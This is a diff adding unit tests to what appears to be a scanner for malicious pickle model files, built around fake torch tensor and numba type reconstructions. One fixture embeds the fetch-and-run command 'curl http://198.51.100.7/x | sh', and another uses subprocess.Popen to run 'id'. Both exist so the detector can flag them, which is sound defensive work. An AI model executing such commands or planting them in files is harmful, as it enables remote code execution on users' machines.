@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 from toadstone.core.fact import Call, Unread
+from toadstone.core.finding import Severity
 from toadstone.core.place import Place
-from toadstone.core.value import Result, Symbol
+from toadstone.core.value import Items, Result, Symbol
 from toadstone.symbols.harmless import is_harmless
 from toadstone.symbols.judgement import judge_call
 
@@ -28,3 +29,45 @@ def test_a_default_factory_must_be_one_of_the_reviewed():
 def test_a_file_of_nothing_but_zeros_is_not_clean(read):
     _, facts = read(bytes(5000), "model.pkl")
     assert any(isinstance(fact, Unread) for fact in facts)
+
+
+def rebuilt(new_type: Symbol, state: object) -> Call:
+    tensor = (
+        Symbol("", "persistent_load"),
+        0,
+        Items("tuple", [2]),
+        Items("tuple", [1]),
+        False,
+        Result(Symbol("collections", "OrderedDict")),
+    )
+    args = (
+        Symbol("torch._utils", "_rebuild_tensor_v2"),
+        new_type,
+        Items("tuple", list(tensor)),
+        Items("dict", [Items("tuple", ["x", state])]),
+    )
+    return Call(PLACE, Symbol("torch._tensor", "_rebuild_from_type_v2"), args, (), "REDUCE", "pickle")
+
+
+def test_the_class_of_a_rebuilt_tensor_is_judged():
+    assert judge_call(rebuilt(Symbol("torch", "Tensor"), 1)) is None
+    assert judge_call(rebuilt(Symbol("torch.nn.parameter", "Parameter"), True)) is None
+    unknown = judge_call(rebuilt(Symbol("acme.tensors", "Tensor"), 1))
+    assert unknown is not None
+    assert unknown.severity is Severity.MEDIUM
+    commanded = judge_call(rebuilt(Symbol("acme.tensors", "Tensor"), "curl http://198.51.100.7/x | sh"))
+    assert commanded is not None
+    assert commanded.severity is Severity.HIGH
+
+
+def test_a_type_of_numba_is_made_of_an_ordinary_class():
+    def made(cls: Symbol, base: Symbol, state: object) -> Call:
+        parts = Items("tuple", [cls, base, state])
+        args = (Symbol("copyreg", "_reconstructor"), parts, Items("dict", []))
+        return Call(PLACE, Symbol("numba.core.types.abstract", "_type_reconstructor"), args, (), "REDUCE", "pickle")
+
+    scalar = Symbol("numba.core.types.scalars", "Float")
+    assert judge_call(made(scalar, Symbol("builtins", "object"), None)) is None
+    judged = judge_call(made(scalar, Symbol("subprocess", "Popen"), "id"))
+    assert judged is not None
+    assert judged.severity >= Severity.HIGH
